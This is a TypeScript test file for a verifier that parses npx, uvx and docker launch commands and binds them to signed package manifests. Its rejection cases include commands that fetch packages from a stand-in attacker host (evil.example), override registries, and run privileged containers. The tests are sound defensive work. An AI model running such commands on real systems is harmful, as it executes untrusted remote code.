import { bindingOf, packageOf, targetKey, type Target } from '@toolsum/verifier';
import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';

const HEX = 'a'.repeat(64);
const run = (line: string): Target => {
  const [command = '', ...args] = line.split(' ');
  return { kind: 'command', command, args };
};
const signed = (purl: string, digest?: string) => ({
  packages: [{ purl, ...(digest === undefined ? {} : { digest }) }],
  remotes: [],
});

describe('what a command line runs', () => {
  it.each<[string, string, string | undefined]>([
    ['npx -y pkg@1.2.3', 'pkg', '1.2.3'],
    ['npx --yes @acme/files@1.2.3', '@acme/files', '1.2.3'],
    ['/usr/bin/npx pkg', 'pkg', undefined],
    ['npx.cmd pkg@latest', 'pkg', undefined],
    ['npx -y pkg@^1.0.0', 'pkg', undefined],
    ['npx -p pkg@1.0.0 other-bin --flag', 'pkg', '1.0.0'],
    ['npx --package=pkg other-bin', 'pkg', undefined],
    ['bunx pkg', 'pkg', undefined],
    ['pnpm dlx pkg@2.0.0', 'pkg', '2.0.0'],
    ['uvx my_Tool==1.0', 'my-tool', '1.0'],
    ['uvx --from my.tool@1.0 cmd', 'my-tool', '1.0'],
    ['docker run -i --rm -e KEY ghcr.io/acme/files:1.2', 'ghcr.io/acme/files', '1.2'],
    [`docker run acme/files@sha256:${HEX}`, 'docker.io/acme/files', undefined],
    ['podman container run files', 'docker.io/library/files', undefined],
  ])('reads %s', (line, name, version) => {
    const found = packageOf(run(line));
    expect(found?.name).toBe(name);
    expect(found?.version).toBe(version);
  });

  it.each([
    'node server.js',
    'sh -c npx',
    'npx --registry=http://evil.example pkg',
    'npx --registry http://evil.example pkg',
    'npx -c pkg',
    'npx -p a -p b cmd',
    'npx ./local',
    'npx github:acme/files',
    'npx alias@npm:other',
    'npx https://evil.example/x.tgz',
    'npx',
    'pnpm pkg',
    'uvx --index-url http://evil.example tool',
    'uvx git+https://evil.example/x',
    'docker run --entrypoint sh acme/files',
    'docker exec acme/files',
    'docker run --privileged acme/files',
  ])('does not pretend to understand %s', (line) => {
    expect(packageOf(run(line))).toBeUndefined();
  });
});

describe('the binding of what runs to a manifest', () => {
  it.each<[string, ReturnType<typeof signed>, string]>([
    ['npx -y @acme/files@1.2.3', signed('pkg:npm/%40acme/files@1.2.3'), 'coordinate'],
    ['npx -y @acme/files', signed('pkg:npm/%40acme/files@1.2.3'), 'coordinate'],
    ['npx -y @acme/files@1.2.4', signed('pkg:npm/%40acme/files@1.2.3'), 'none'],
    ['npx -y @acme/other@1.2.3', signed('pkg:npm/%40acme/files@1.2.3'), 'none'],
    ['npx -y files@1.2.3', signed('pkg:npm/%40acme/files@1.2.3'), 'none'],
    ['uvx My.Tool==1.0', signed('pkg:pypi/my-tool@1.0'), 'coordinate'],
    ['uvx tool', signed('pkg:npm/tool'), 'none'],
    [
      `docker run ghcr.io/acme/files@sha256:${HEX}`,
      signed(`pkg:oci/files@sha256%3A${HEX}?repository_url=ghcr.io/acme/files`),
      'digest',
    ],
    [
      `docker run ghcr.io/acme/files@sha256:${'b'.repeat(64)}`,
      signed(`pkg:oci/files@sha256%3A${HEX}?repository_url=ghcr.io/acme/files`),
      'none',
    ],
    [
      `docker run ghcr.io/acme/files:1@sha256:${HEX}`,
      signed('pkg:oci/ghcr.io/acme/files%3A1', `sha256:${HEX}`),
      'digest',
    ],
    ['docker run ghcr.io/acme/files:1', signed('pkg:oci/ghcr.io/acme/files%3A1'), 'coordinate'],
    ['docker run ghcr.io/evil/files:1', signed('pkg:oci/ghcr.io/acme/files%3A1'), 'none'],
    ['node server.js', signed('pkg:npm/server.js'), 'none'],
  ])('of %s', (line, manifest, expected) => {
    expect(bindingOf(run(line), manifest, false)).toBe(expected);
    expect(bindingOf(run(line), manifest, true)).toBe(expected === 'none' ? 'mapped' : expected);
  });

  it('takes the package that a script lies in', () => {
    const target: Target = {
      kind: 'command',
      command: 'node',
      args: ['x'],
      installed: { type: 'npm', name: '@acme/files', version: '1.2.3' },
    };
    expect(bindingOf(target, signed('pkg:npm/%40acme/files@1.2.3'), false)).toBe('coordinate');
    expect(bindingOf(target, signed('pkg:npm/%40acme/files@1.2.4'), false)).toBe('none');
  });

  it('compares addresses whole', () => {
    const manifest = {
      packages: [],
      remotes: [{ type: 'streamable-http' as const, url: 'https://mcp.acme.example/v1' }],
    };
    const of = (url: string) => bindingOf({ kind: 'url', url }, manifest, false);
    expect(of('https://MCP.acme.example:443/v1')).toBe('endpoint');
    for (const url of [
      'https://mcp.acme.example/v1/',
      'https://mcp.acme.example/v1?x',
      'http://mcp.acme.example/v1',
      'https://mcp.acme.example.evil/v1',
      'x',
    ]) {
      expect(of(url), url).toBe('none');
    }
  });
});

describe('keys of targets', () => {
  it('are readable, and different for different commands', () => {
    expect(targetKey(run('npx -y @acme/files@1.2.3'))).toBe('npx -y @acme/files@1.2.3');
    expect(targetKey({ kind: 'command', command: 'node', args: ['a b', "it's", ''] })).toBe(
      String.raw`node 'a b' 'it'\''s' ''`,
    );
    fc.assert(
      fc.property(fc.array(fc.string()), fc.array(fc.string()), (a, b) => {
        const key = (args: string[]): string => targetKey({ kind: 'command', command: 'x', args });
        expect(key(a) === key(b)).toBe(JSON.stringify(a) === JSON.stringify(b));
      }),
    );
  });

  it('of great length are digests', () => {
    expect(targetKey({ kind: 'command', command: 'x', args: ['y'.repeat(5000)] })).toMatch(/^sha256:/);
  });
});
